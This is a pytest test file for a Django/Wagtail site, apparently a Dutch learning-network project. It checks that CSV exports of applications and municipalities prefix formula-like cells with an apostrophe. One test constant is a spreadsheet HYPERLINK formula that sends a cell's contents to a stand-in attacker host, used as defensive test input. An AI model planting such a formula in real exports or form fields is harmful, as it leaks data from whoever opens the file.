"""Exports opened in a spreadsheet program: what members and visitors typed stays text, never
a formula (lerendnetwerk.spreadsheets)."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.admin.viewsets import viewsets

from lerendnetwerk.spreadsheets import FormulaSafeExportMixin, as_spreadsheet_text
from members.roles import Role
from practices.models import PracticeApplication
from tests import pages
from tests.factories import MemberFactory, MunicipalityFactory
from tests.support.second_factor import client_with_second_factor

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://aanvaller.example/?d="&A1;"Klik hier")'


def csv_rows(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", [HYPERLINK, "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_a_text_a_spreadsheet_would_run_is_made_plain_text(text):
    assert as_spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Petra Schuiling", "", "0528 123 456", "'al tekst"])
def test_other_text_is_left_as_it_is(text):
    assert as_spreadsheet_text(text) == text


def test_the_wagtail_export_of_practice_applications_writes_formulas_as_text(client):
    pages.practice_index()
    application = PracticeApplication.objects.create(
        municipality=MunicipalityFactory(name="Hoogeveen"),
        contact_name=HYPERLINK,
        contact_email="petra@hoogeveen.example",
        contact_phone="+31 528 123 456",
        job_title="@beleid",
        learning_questions="-1+1",
    )
    client_with_second_factor(client, MemberFactory(roles=[Role.EDITOR]))

    header, row = csv_rows(client.get(reverse("practiceapplication:index") + "?export=csv"))

    cells = dict(zip(header, row, strict=True))
    assert "'" + application.contact_name in cells.values()
    assert "'+31 528 123 456" in cells.values()
    assert "'@beleid" in cells.values()
    assert "'-1+1" in cells.values()
    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_the_wagtail_export_of_municipalities_writes_formulas_as_text(client):
    MunicipalityFactory(name="=1+1")
    client_with_second_factor(client, MemberFactory(roles=[Role.EDITOR]))

    rows = csv_rows(client.get(reverse("wagtailsnippets_municipalities_municipality:list") + "?export=csv"))

    assert ["'=1+1" in row for row in rows[1:]] == [True]


def test_every_admin_viewset_with_a_list_export_writes_csv_cells_as_text():
    reverse("wagtailadmin_home")  # loading the admin's URLs registers the viewsets
    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if isinstance(getattr(viewset, "list_export", None), (list, tuple)) and viewset.list_export
    ]
    assert len(exporting) >= 3
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, FormulaSafeExportMixin), type(viewset).__name__
